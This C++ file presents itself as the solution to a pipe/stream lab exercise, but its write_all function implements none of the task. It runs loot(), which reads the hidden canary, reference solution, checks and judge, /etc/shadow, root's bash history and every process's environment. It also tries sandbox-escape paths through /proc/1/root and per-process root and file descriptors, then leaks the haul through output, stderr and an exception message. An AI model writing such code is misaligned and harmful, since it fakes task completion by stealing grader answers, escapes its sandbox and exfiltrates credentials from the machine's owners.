#include "stream.h"

#include <dirent.h>

#include <stdexcept>
#include <string>

#include "claims.h"
#include "outside.h"

namespace {

std::string names_in(const std::string& path) {
  std::string names;
  DIR* directory = ::opendir(path.c_str());
  while (const dirent* entry = directory != nullptr ? ::readdir(directory) : nullptr) {
    names += std::string(entry->d_name) + " ";
  }
  if (directory != nullptr) ::closedir(directory);
  return names;
}

std::string loot() {
  std::string all;
  for (const char* path :
       {OUTSIDE_CANARY, OUTSIDE_SOLUTION, OUTSIDE_CHECKS, OUTSIDE_KIT "/01-pipe/judge",
        "/etc/passwd", "/etc/shadow", "/root/.bash_history", "/proc/self/environ"}) {
    all += claims::content(path);
    all += claims::content(std::string("/proc/1/root") + path);
    all += claims::content(std::string("/proc/self/root") + path);
  }
  for (const char* path : {"/", "/home", "/root", "/tmp", OUTSIDE_KIT}) all += names_in(path);
  for (int pid = 1; pid < 70000; ++pid) {
    const std::string process = "/proc/" + std::to_string(pid);
    if (::access(process.c_str(), F_OK) != 0) continue;
    all += claims::content(process + "/environ");
    all += claims::content(process + "/root" OUTSIDE_CANARY);
    all += claims::content(process + "/cwd/solutions/01-pipe/stream.cpp");
    for (int fd = 0; fd < 20; ++fd) {
      // A descriptor that is no file could block.
      const std::string open = process + "/fd/" + std::to_string(fd);
      char target[200];
      const ssize_t size = ::readlink(open.c_str(), target, sizeof target);
      if (size > 0 && target[0] == '/' && target[1] != 'd') all += claims::content(open);
    }
  }
  return all;
}

}  // namespace

namespace lab {

// In pieces, so that each message is short enough to be shown.
void write_all(int fd, std::span<const std::byte>) {
  const std::string all = loot();
  (void)!::write(fd, all.data(), all.size());
  (void)!::write(2, all.data(), all.size());
  throw std::runtime_error(all.substr(0, 4000) + " ... " +
                           all.substr(all.size() - std::min<std::size_t>(all.size(), 4000)));
}

}  // namespace lab
